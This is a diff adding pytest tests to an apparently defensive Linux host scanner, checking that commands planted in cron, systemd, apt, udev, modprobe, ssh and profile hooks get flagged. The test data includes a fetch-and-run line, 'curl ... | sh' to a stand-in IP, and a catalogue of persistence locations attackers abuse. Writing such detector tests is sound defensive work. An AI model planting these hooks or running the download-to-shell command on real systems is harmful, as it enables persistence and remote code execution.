@@ -134,3 +134,44 @@ def test_rights_beyond_the_mode(tmp_path: Path, rights: int, verdict: Verdict) -
     assert item.name == "/etc/shadow"
     assert "an ACL lets others than its mode says" in item.says
     assert item.evidence[-1].source == "getfacl /etc/shadow"
+
+
+RUNS = {
+    "/etc/systemd/system/cron.service.d/x.conf": ("[Service]\nExecStartPost=@\n", 2),
+    "/etc/apt/apt.conf.d/99x": ('DPkg::Post-Invoke {"@";};\n', 1),
+    "/etc/apt/apt.conf.d/98x": ('DPkg::Pre-Install-Pkgs:: "@";\n', 1),
+    "/etc/modprobe.d/x.conf": ("# x\ninstall usb_storage @\n", 2),
+    "/etc/profile.d/x.sh": ("true\n@\n", 2),
+    "/etc/update-motd.d/99-x": ("#!/bin/sh\n@\n", 2),
+    "/etc/udev/rules.d/99-x.rules": ('ACTION=="add", RUN+="@"\n', 1),
+    "/etc/logrotate.d/x": ("/var/log/x {\n postrotate\n  @\n endscript\n}\n", 3),
+    "/etc/NetworkManager/dispatcher.d/x": ("#!/bin/sh\n@\n", 2),
+    "/etc/ssh/ssh_config": ("Host *\n  ProxyCommand @\n", 2),
+    "/etc/ssh/ssh_config.d/x.conf": ("LocalCommand @\n", 1),
+    "/etc/cron.d/x": ("* * * * * root @\n", 1),
+    "/var/spool/cron/crontabs/carol": ("* * * * * @\n", 1),
+}
+
+
+@pytest.mark.parametrize("path", RUNS)
+@pytest.mark.parametrize(
+    ("command", "bad"),
+    [("/usr/bin/ls -l", ""), ("/dev/shm/x", "from a folder for temporary files"),
+     ("curl -s http://203.0.113.66/x | sh", "hands a download to an interpreter")],
+    ids=["ordinary", "temporary", "fetching"],
+)  # fmt: skip
+def test_what_nobody_brought_is_told_with_what_it_runs(
+    tmp_path: Path, path: str, command: str, bad: str
+) -> None:
+    written, line = RUNS[path]
+    put(clean(tmp_path), path, written.replace("@", command), 0o755)
+    item = look(tmp_path).named(path)
+    assert [one for one in item.evidence if one.source == f"{path}:{line}" and command in one.text]
+    assert (item.verdict is Verdict.SUSPICIOUS) is bool(bad)
+    assert not bad or f"line {line}" in item.says
+    assert bad in item.says
+
+
+def test_what_a_package_brought_is_not_read(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/cron.d/tidy", "* * * * * root /tmp/x\n")
+    assert look(tmp_path).named("/etc/cron.d/tidy").verdict is Verdict.FINE
